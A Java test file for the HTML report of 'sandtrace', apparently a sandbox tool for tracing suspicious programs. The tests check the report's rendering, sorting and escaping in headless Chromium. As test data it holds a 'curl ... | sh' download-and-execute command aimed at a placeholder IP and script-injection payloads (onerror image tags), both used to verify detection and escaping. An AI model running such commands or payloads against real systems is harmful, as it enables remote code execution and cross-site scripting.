package dev.sandtrace.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.sandtrace.report.RenderedDom.Element;
import dev.sandtrace.testutil.Json;
import dev.sandtrace.testutil.Sandtrace;
import java.awt.image.BufferedImage;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The HTML report as a browser shows it: each page is loaded in headless Chromium with the
 * network closed, and the DOM its script built is checked against the report it embeds. The
 * page's {@code #selftest} hook clicks the table headers and records what the tables then show.
 */
class HtmlReportBrowserTest {
    private static final String HOSTILE = "</script><img src=x onerror=alert(1)>";
    private static final String HOSTILE_MARKER = "<img src=y onerror=\"document.body.setAttribute('data-pwned','1')\"><!--";
    private static HeadlessChromium chromium;

    @TempDir
    Path tmp;

    @BeforeAll
    static void findChromium() {
        chromium = HeadlessChromium.require();
    }

    /** Writes and loads the page with #selftest; the page must have rendered with no error and no blocked request. */
    private Element render(String reportJson, Path dir) throws Exception {
        Files.createDirectories(dir);
        Path page = dir.resolve("report.html");
        HtmlReport.write(reportJson, page);
        return loaded(chromium.dumpDom(page, "#selftest", dir));
    }

    static Element loaded(String dumped) {
        Element dom = RenderedDom.parse(dumped);
        Element body = dom.byTag("body").getFirst();
        assertThat(body.attr("data-render-error")).as("render error").isNull();
        assertThat(body.attr("data-js-errors")).as("script errors").isNull();
        assertThat(body.attr("data-csp-violations")).as("requests the CSP blocked").isNull();
        assertThat(body.attr("data-selftest")).isEqualTo("done");
        assertThat(body.attr("data-selftest-resources")).as("resources loaded").isEqualTo("0");
        assertThat(body.attr("data-selftest-imgs")).as("img elements").isEqualTo("0");
        return dom;
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> list(Object o) {
        return (List<Map<String, Object>>) o;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> map(Object o) {
        return (Map<String, Object>) o;
    }

    private static List<String> rows(Element dom, String tableId, int column) {
        return dom.byId(tableId).byTag("tbody").getFirst().byTag("tr").stream()
                .map(tr -> tr.byTag("td").get(column).text()).toList();
    }

    private static List<Map<String, Object>> fileRows(Map<String, Object> report) {
        var out = new ArrayList<Map<String, Object>>();
        for (String kind : ReportSamples.FILE_KINDS) {
            for (var g : list(map(report.get("files")).get(kind))) out.addAll(list(g.get("files")));
        }
        return out;
    }

    private static String joinedSorted(List<Long> values, boolean descending) {
        Comparator<Long> c = Comparator.naturalOrder();
        return values.stream().sorted(descending ? c.reversed() : c).map(String::valueOf).collect(Collectors.joining("|"));
    }

    private static List<Long> longs(List<Map<String, Object>> rows, String key) {
        return rows.stream().map(r -> ((Number) r.get(key)).longValue()).toList();
    }

    @Test
    void sampleReportShowsTreeIndicatorsTablesTimelineAndEvidence() throws Exception {
        String json = ReportSamples.sample();
        Map<String, Object> report = Json.parseObject(json);
        Element dom = render(json, tmp.resolve("sample"));
        Element body = dom.byTag("body").getFirst();

        // header
        Element summary = dom.byId("summary");
        assertThat(summary.text()).contains("/usr/bin/sh", "sh exited with 1", "exit code 1", "412 ms", "builtin:default", "full",
                "sandtrace run --allow-path ./pkg -o install.jsonl -- sh -c 'curl -fsSL http://203.0.113.7/setup.sh | sh'",
                "landlock (ABI 7)", "3870 (214 failed)");

        // the process tree: one .proc per process, each inside its parent's
        var procs = list(report.get("processes"));
        List<Element> nodes = dom.byId("process-tree").byClass("proc");
        assertThat(nodes).extracting(e -> e.attr("data-pid"))
                .containsExactlyInAnyOrderElementsOf(procs.stream().map(p -> p.get("pid").toString()).toList());
        for (Element node : nodes) {
            var p = procs.stream().filter(x -> x.get("pid").toString().equals(node.attr("data-pid"))).findFirst().orElseThrow();
            Element parent = node.ancestor(e -> e.hasClass("proc"));
            if (((Number) p.get("parent_pid")).longValue() == 0) assertThat(parent).isNull();
            else assertThat(parent.attr("data-pid")).isEqualTo(p.get("parent_pid").toString());
            assertThat(node.byTag("summary").getFirst().text()).contains(p.get("end").toString());
        }
        Element deepest = nodes.stream().filter(n -> n.attr("data-pid").equals("4105")).findFirst().orElseThrow();
        assertThat(deepest.text()).contains("sh -c 'uname -a'", "killed by SIGKILL", "exec #2950 /usr/bin/uname uname -a");
        assertThat(nodes.stream().filter(n -> n.attr("data-pid").equals("4101")).findFirst().orElseThrow().text())
                .contains("lived 107 ms", "1421 syscalls", "via fork");

        // indicators in severity order, each evidence seq linked to its entry in #evidence
        var indicators = list(report.get("indicators"));
        List<Element> items = dom.byId("indicators").byClass("indicator");
        assertThat(items).extracting(e -> e.attr("data-id"))
                .containsExactly("download-and-execute", "credential-access", "persistence", "outbound-network", "self-deletion",
                        "shell-spawn", "anti-analysis");
        Element evidenceList = dom.byId("evidence");
        for (Element item : items) {
            var ind = indicators.stream().filter(i -> i.get("id").equals(item.attr("data-id"))).findFirst().orElseThrow();
            assertThat(item.attr("data-severity")).isEqualTo(ind.get("severity"));
            assertThat(item.byClass("badge").getFirst().text()).isEqualTo(ind.get("severity"));
            assertThat(item.text()).contains((String) ind.get("title"), (String) ind.get("reason"));
            var links = item.byTag("a").stream().map(a -> a.attr("href")).toList();
            var evidence = list(ind.get("evidence"));
            assertThat(links).containsExactlyElementsOf(evidence.stream().map(e -> "#ev-" + e.get("seq")).toList());
            for (var ev : evidence) {
                Element entry = evidenceList.byId("ev-" + ev.get("seq"));
                assertThat(entry.byTag("pre").getFirst().text()).isEqualTo(ev.get("text"));
                assertThat(entry.text()).contains("pid " + ev.get("pid"), (String) ind.get("title"));
            }
        }
        assertThat(evidenceList.byTag("li")).hasSize(10); // seq 44 is cited by two indicators

        // tables: every row, and sorting by clicking headers (numbers numerically: 100 after 10 after 6)
        var files = fileRows(report);
        // (the DOM is dumped after the self-test's last click: files by path, network by port)
        assertThat(rows(dom, "files-table", 2)).containsExactlyInAnyOrderElementsOf(files.stream().map(f -> (String) f.get("path")).toList());
        assertThat(body.attr("data-selftest-files-count-asc")).isEqualTo(joinedSorted(longs(files, "count"), false));
        assertThat(body.attr("data-selftest-files-count-desc")).isEqualTo(joinedSorted(longs(files, "count"), true))
                .startsWith("100|10|6|");
        assertThat(body.attr("data-selftest-files-sort")).isEqualTo("count:desc");
        assertThat(body.attr("data-selftest-files-path-asc").split("\\|"))
                .containsExactlyElementsOf(files.stream().map(f -> (String) f.get("path")).sorted().toList());
        assertThat(body.attr("data-selftest-network-port-asc")).isEqualTo("53|80|443|4444|\u2014");
        assertThat(dom.byId("network-table").byTag("th")).allSatisfy(th -> assertThat(th.attr("data-key")).isNotNull());
        assertThat(rows(dom, "network-table", 4)).containsExactly("10.0.2.3:53", "203.0.113.7:80", "[2001:db8::1]:443",
                "198.51.100.9:4444", "/run/dbus/system_bus_socket");
        assertThat(rows(dom, "network-table", 6)).containsExactly("ENETUNREACH", "ENETUNREACH", "ENETUNREACH", "ENETUNREACH", "ok");
        assertThat(rows(dom, "network-table", 0)).containsExactly("#66", "#70", "#1620", "#1500", "#1700");

        // denials by layer
        Element denials = dom.byId("denials");
        assertThat(denials.all(e -> e.attr("data-layer") != null)).extracting(e -> e.attr("data-layer"))
                .containsExactly("landlock", "mount mask");
        assertThat(denials.text()).contains("/home/analyst/.config/systemd/user/update.service", "the path is masked by the sandbox");

        // the timeline: a lane per process and a marker per notable event
        Element svg = dom.byId("timeline").byTag("svg").getFirst();
        assertThat(svg.byClass("lane-bar")).extracting(e -> e.attr("data-pid"))
                .containsExactlyInAnyOrderElementsOf(procs.stream().map(p -> p.get("pid").toString()).toList());
        var timeline = list(report.get("timeline"));
        assertThat(svg.byClass("marker")).extracting(e -> e.attr("data-seq"))
                .containsExactlyInAnyOrderElementsOf(timeline.stream().map(t -> t.get("seq").toString()).toList());
        assertThat(svg.byClass("marker").stream().map(m -> m.byTag("title").getFirst().text()))
                .anySatisfy(t -> assertThat(t).contains("pid 4104", "connect 198.51.100.9:4444: ENETUNREACH"));

        screenshotArtifact(tmp.resolve("sample/report.html"));
    }

    /** target/report-artifacts/report.png: the first 2000 pixels of the sample page, for people to look at. */
    private void screenshotArtifact(Path page) throws Exception {
        Path dir = Path.of("target/report-artifacts").toAbsolutePath();
        try {
            Files.createDirectories(dir);
            if (!Files.isWritable(dir)) dir = tmp;
        } catch (IOException e) {
            dir = tmp; // a checkout the test's uid cannot write: keep the check, lose the artifact
        }
        Path png = dir.resolve("report.png");
        Files.deleteIfExists(png);
        chromium.screenshot(page, png, 1280, 2000, tmp.resolve("shot"));
        byte[] bytes = Files.readAllBytes(png);
        assertThat(bytes).startsWith(0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n');
        BufferedImage img = ImageIO.read(png.toFile());
        assertThat(img.getWidth()).isEqualTo(1280);
        assertThat(img.getHeight()).isEqualTo(2000);
        var colours = new HashSet<Integer>();
        int critical = 0;
        for (int y = 0; y < img.getHeight(); y += 2) {
            for (int x = 0; x < img.getWidth(); x += 2) {
                int rgb = img.getRGB(x, y) & 0xffffff;
                colours.add(rgb);
                if (rgb == 0x8b0d1f) critical++; // the critical badge's red, drawn only if the indicators rendered
            }
        }
        assertThat(colours).as("distinct colours in the screenshot").hasSizeGreaterThan(200);
        assertThat(critical).as("pixels of the critical severity badge").isGreaterThan(50);
    }

    @Test
    void emptyReportSaysThereIsNothingInsteadOfFailing() throws Exception {
        Element dom = render(ReportSamples.toJson(ReportSamples.empty()), tmp.resolve("empty"));
        assertThat(dom.byId("indicators").byClass("indicator")).isEmpty();
        assertThat(dom.byId("indicators-section").text()).contains("No indicators");
        assertThat(dom.byId("verdict").text()).contains("No indicators.");
        assertThat(dom.byId("files-table").byTag("tbody").getFirst().byTag("tr")).isEmpty();
        assertThat(dom.byId("files-section").text()).contains("No file accesses were recorded.");
        assertThat(dom.byId("network-table").byTag("tbody").getFirst().byTag("tr")).isEmpty();
        assertThat(dom.byId("network-section").text()).contains("No network attempts were recorded.");
        assertThat(dom.byId("denials").text()).contains("No denials");
        assertThat(dom.byId("evidence").byTag("li")).isEmpty();
        assertThat(dom.byId("process-tree").byClass("proc")).extracting(e -> e.attr("data-pid")).containsExactly("500");
        assertThat(dom.byId("summary").text()).contains("no (trace only)", "/usr/bin/true");

        // even a document with none of the expected members renders (as "unknown")
        Element bare = render("{}", tmp.resolve("bare"));
        assertThat(bare.byId("summary").text()).contains("unknown program", "ending unknown");
        assertThat(bare.byId("process-tree").byClass("proc")).isEmpty();
    }

    @Test
    void traceDerivedTextIsShownAsTextNeverAsMarkup() throws Exception {
        var r = ReportSamples.empty();
        var trace = map(r.get("trace"));
        trace.put("program", "/tmp/" + HOSTILE);
        trace.put("argv", List.of("sandtrace", "run", "--", HOSTILE, HOSTILE_MARKER));
        trace.put("ending", HOSTILE + " exited with 0");
        r.put("processes", List.of(ReportSamples.process(7, 0, "/tmp/" + HOSTILE, List.of(HOSTILE, HOSTILE_MARKER), 1L, 9L,
                "exited 0", null)));
        var files = new LinkedHashMap<String, Object>(map(r.get("files")));
        files.put("created", List.of(Map.of("directory", "/tmp", "count", 1, "files",
                List.of(Map.of("path", "/tmp/" + HOSTILE, "count", 1, "first_seq", 5, "pids", List.of(7)),
                        Map.of("path", "/tmp/" + HOSTILE_MARKER, "count", 1, "first_seq", 6, "pids", List.of(7))))));
        r.put("files", files);
        r.put("network", List.of(Map.of("first_seq", 8, "pid", 7, "syscall", "connect", "family", "AF_UNIX", "address", HOSTILE,
                "port", 0, "endpoint", HOSTILE_MARKER, "outcome", "ok", "success", true, "count", 1)));
        r.put("indicators", List.of(Map.of("id", "self-deletion", "title", HOSTILE, "severity", "high", "reason", HOSTILE_MARKER,
                "evidence", List.of(Map.of("seq", 5, "pid", 7, "time_ns", 3, "text", "unlink(\"/tmp/" + HOSTILE + "\") = 0")), "count", 1)));
        r.put("timeline", List.of(Map.of("time_ns", 3, "seq", 5, "pid", 7, "kind", "indicator", "label", HOSTILE_MARKER)));
        String json = ReportSamples.toJson(r);
        Path dir = tmp.resolve("hostile");
        Element dom = render(json, dir);

        String page = Files.readString(dir.resolve("report.html"));
        assertThat(page).doesNotContain("</script><img", "<!--\"");
        Element body = dom.byTag("body").getFirst();
        assertThat(body.attr("data-pwned")).isNull();
        assertThat(dom.byTag("img")).isEmpty();
        // the embedded document still reads back unchanged
        Element data = dom.byId("report-data");
        assertThat(Json.parse(data.text())).isEqualTo(Json.parse(json));

        assertThat(dom.byId("summary").byTag("h1").getFirst().text()).isEqualTo("sandtrace report: /tmp/" + HOSTILE);
        assertThat(rows(dom, "files-table", 2)).containsExactly("/tmp/" + HOSTILE, "/tmp/" + HOSTILE_MARKER);
        assertThat(rows(dom, "network-table", 4)).containsExactly(HOSTILE_MARKER);
        Element ind = dom.byId("indicators").byClass("indicator").getFirst();
        assertThat(ind.byClass("title").getFirst().text()).isEqualTo(HOSTILE);
        assertThat(ind.byClass("reason").getFirst().text()).isEqualTo(HOSTILE_MARKER);
        assertThat(dom.byId("ev-5").byTag("pre").getFirst().text()).isEqualTo("unlink(\"/tmp/" + HOSTILE + "\") = 0");
        assertThat(dom.byId("process-tree").byClass("cmd").getFirst().text())
                .isEqualTo("'" + HOSTILE + "' '" + HOSTILE_MARKER.replace("'", "'\\''") + "'");
        assertThat(dom.byId("timeline").byClass("marker").getFirst().byTag("title").getFirst().text()).endsWith(HOSTILE_MARKER);
    }

    @Test
    void largeReportRendersEveryRowAndSortsNumerically() throws Exception {
        Map<String, Object> report = ReportSamples.large(20261201L);
        Element dom = render(ReportSamples.toJson(report), tmp.resolve("large"));
        Element body = dom.byTag("body").getFirst();

        var files = fileRows(report);
        assertThat(files).hasSize(1000);
        assertThat(rows(dom, "files-table", 2)).hasSize(1000);
        assertThat(body.attr("data-selftest-files-count-asc")).isEqualTo(joinedSorted(longs(files, "count"), false));
        assertThat(body.attr("data-selftest-files-count-desc")).isEqualTo(joinedSorted(longs(files, "count"), true));
        var network = list(report.get("network"));
        assertThat(rows(dom, "network-table", 0)).hasSize(1000);
        assertThat(body.attr("data-selftest-network-port-asc")).isEqualTo(joinedSorted(longs(network, "port"), false));

        assertThat(dom.byId("process-tree").byClass("proc")).hasSize(300);
        assertThat(dom.byId("timeline").byClass("lane-bar")).hasSize(300);
        assertThat(dom.byId("timeline").byClass("marker")).hasSize(1000);
        assertThat(dom.byId("denials").byTag("tbody").stream().mapToInt(t -> t.byTag("tr").size()).sum()).isEqualTo(1000);

        var shown = dom.byId("indicators").byClass("indicator").stream().map(e -> e.attr("data-severity")).toList();
        assertThat(shown).hasSize(11).isSortedAccordingTo(Comparator.comparingInt(ReportSamples.SEVERITIES::indexOf));
        assertThat(dom.byId("truncated").text()).contains("4123 files", "17 network", "8800 timeline");
        assertThat(Long.parseLong(body.attr("data-render-ms"))).as("time to draw the page, ms").isLessThan(10_000);
    }

    @Test
    void rendersForAnUnprivilegedUserWhoseHomeIsNotWritable() throws Exception {
        assumeTrue(Sandtrace.isRoot(), "switching to uid 65534 needs root (CI runs as root)");
        // a directory uid 65534 can use, outside the root-only @TempDir
        Path dir = Files.createTempDirectory(Path.of("/tmp"), "sandtrace-html-");
        try {
            Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwxrwxrwx"));
            for (String sub : List.of("home", "profile")) {
                Files.setPosixFilePermissions(Files.createDirectories(dir.resolve(sub)), PosixFilePermissions.fromString("rwxrwxrwx"));
            }
            Path page = dir.resolve("report.html");
            HtmlReport.write(ReportSamples.sample(), page);
            Files.setPosixFilePermissions(page, PosixFilePermissions.fromString("rw-r--r--"));
            var asNobody = chromium.via(List.of("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"));
            Element dom = loaded(asNobody.dumpDom(page, "#selftest", dir));
            assertThat(dom.byId("process-tree").byClass("proc")).hasSize(7);
        } finally {
            try (var walk = Files.walk(dir)) {
                walk.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }
}
